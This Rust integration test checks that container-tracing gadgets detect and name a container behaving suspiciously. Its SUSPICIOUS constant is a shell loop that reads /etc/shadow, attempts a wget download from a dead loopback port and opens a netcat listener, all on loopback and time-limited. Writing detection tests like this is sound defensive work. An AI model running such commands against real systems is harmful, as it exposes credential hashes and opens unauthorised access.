//! The question that began it: is anything suspicious going on? A container reads what it should not, downloads a
//! program and opens a door; three gadgets, started as an assistant would, each find it and name the container.

use std::time::Duration;

use gadgetry_tests::client::{self, Steps};
use gadgetry_tests::container;
use gadgetry_tests::host::Host;
use serde_json::{Value, json};

const IMAGES: &str = "-gadget-images=trace_exec,trace_open,snapshot_process";
/// Nobody listens on port 1: the download fails, the attempt is what counts. The door is a listener on loopback.
const SUSPICIOUS: &str = "while :; do cat /etc/shadow; wget -q -T 1 -O /tmp/x http://127.0.0.1:1/x; \
    nc -l -p 0 -s 127.0.0.1 -w 1; sleep 0.2; done";

/// The rows of a tool's result that happened in the container.
fn of<'a>(result: &'a Value, container: &str) -> Vec<&'a Value> {
    let rows = result["structuredContent"]["rows"].as_array();
    let rows = rows.unwrap_or_else(|| panic!("no rows in {result}"));
    rows.iter().filter(|row| row["container"]["id"] == container).collect()
}

#[test]
fn suspicious_activity_is_found_and_named() {
    let host = Host::new();
    let folder = tempfile::tempdir().expect("a folder");
    for runtime in ["crun", "runc"] {
        let name = container::name(&format!("suspicious-{runtime}"));
        // It ends by itself, whatever becomes of this test.
        let script = format!("timeout 25 sh -c '{SUSPICIOUS}'");
        let mut running = container::start(runtime, folder.path(), &name, &["sh", "-c", &script]);
        std::thread::sleep(Duration::from_millis(1500));
        let steps = Steps::new()
            .call("snapshot_process", json!({}))
            .call("trace_exec", json!({"duration": 4, "container": [name]}))
            .and_call("trace_open", json!({"duration": 4, "container": [name]}));
        let seen = client::stdio(&host, "auto", &[IMAGES], steps);
        let [processes, programs, files] = &seen.results[..] else { panic!("{:?}", seen.results) };

        let processes = of(processes, &name);
        assert!(processes.iter().any(|row| row["comm"] == "sh"), "{runtime}: {processes:?}");
        let programs = of(programs, &name);
        let ran = |program: &str| programs.iter().any(|row| row["args"][0] == program);
        assert!(ran("wget") && ran("nc") && ran("cat"), "{runtime}: {programs:?}");
        let files = of(files, &name);
        assert!(files.iter().any(|row| row["path"] == "/etc/shadow"), "{runtime}: {files:?}");
        for row in processes.iter().chain(&programs).chain(&files) {
            assert_eq!(row["container"]["runtime"], runtime, "{row}");
        }
        assert!(running.wait().is_ok());
    }
}
